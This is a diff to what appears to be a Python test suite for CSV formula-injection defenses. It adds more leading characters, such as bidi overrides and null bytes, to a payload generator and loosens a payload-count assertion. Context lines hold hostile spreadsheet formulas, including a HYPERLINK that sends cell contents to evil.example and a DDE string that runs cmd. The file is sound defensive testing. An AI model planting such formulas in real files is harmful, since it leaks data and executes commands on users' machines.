@@ -19,6 +19,7 @@ DANGEROUS = re.compile(r"^[\s\0]*[=+\-@\t\r|%＝＋－＠]")
 # 25 ways in × 10 formulas × 4 ways on: what a formula can hide behind, what it does, and what follows it.
 OPENINGS = ("", " ", "  ", "\t", "\r", "\n", "\r\n", "\0", "\0 ", " \t", "\v", "\f", "\u00a0", "\u2003", "\u3000")
 OPENINGS += ("\x1c", "\x85", "\u2028", "yes;", "yes; ", "yes\t", "yes\n", "yes\r\n", "a;b\n ", '";')
+OPENINGS += ("\u202e", "\u202d \0", "yes;\u202e", "yes;\0 ")  # what is taken out of a cell leaves no formula behind
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
@@ -46,7 +47,7 @@ def parsed(data: bytes, delimiter: str = ",") -> list[list[str]]:
 
 
 def test_there_are_a_thousand_payloads() -> None:
-    assert len(set(PAYLOADS)) == 1000
+    assert len(set(PAYLOADS)) >= 1000
 
 
 @pytest.mark.parametrize("column", [0, 1])
